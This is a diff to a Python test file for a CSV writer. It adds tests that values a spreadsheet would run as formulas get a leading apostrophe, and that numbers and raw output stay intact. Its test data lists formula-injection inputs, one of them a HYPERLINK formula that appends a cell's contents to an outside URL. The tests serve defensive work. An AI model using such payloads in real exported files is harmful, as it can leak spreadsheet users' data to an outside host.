@@ -65,19 +65,48 @@ def test_values_are_written_as_iso_text_and_missing_as_empty(tmp_path: Path) -> 
     ]
 
 
-def test_text_is_kept_exactly_even_when_excel_would_read_a_formula(tmp_path: Path) -> None:
+TEXTS_A_SPREADSHEET_WOULD_RUN = [
+    "=SUM(A1:A2)",
+    "+49 30 1234",
+    "-2",
+    "@user",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://example.org/?"&A1,"click")',
+]
+HARMLESS_TEXTS = [
+    'He said "no", then left.',
+    "line one\nline two",
+    "  padded  ",
+    " =1+1",
+    "a=b",
+    "bell\x07",
+    "'quoted already",
+    "",
+]
+
+
+def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(tmp_path: Path) -> None:
     target = tmp_path / "out.csv"
-    texts = [
-        "=SUM(A1:A2)",
-        "+49 30 1234",
-        "-2",
-        "@user",
-        'He said "no", then left.',
-        "line one\nline two",
-        "  padded  ",
-        "bell\x07",
-    ]
+    texts = TEXTS_A_SPREADSHEET_WOULD_RUN + HARMLESS_TEXTS
     write_csv(target, [Column("quote")], [(text,) for text in texts])
+
+    written = [row[0] for row in read_rows(target)[1:]]
+    assert written == ["'" + text for text in TEXTS_A_SPREADSHEET_WOULD_RUN] + HARMLESS_TEXTS
+
+
+def test_numbers_stay_numbers_when_formulas_are_neutralised(tmp_path: Path) -> None:
+    target = tmp_path / "out.csv"
+    columns = [Column("stance value", "float"), Column("id", "int"), Column("label")]
+    write_csv(target, columns, [(-2.0, -1, "-2"), (1.5, 3, "+1")])
+
+    assert read_rows(target)[1:] == [["-2.0", "-1", "'-2"], ["1.5", "3", "'+1"]]
+
+
+def test_raw_output_keeps_the_text_exactly(tmp_path: Path) -> None:
+    target = tmp_path / "out.csv"
+    texts = TEXTS_A_SPREADSHEET_WOULD_RUN + HARMLESS_TEXTS
+    write_csv(target, [Column("quote")], [(t,) for t in texts], neutralise_formulas=False)
 
     assert [row[0] for row in read_rows(target)[1:]] == texts
 
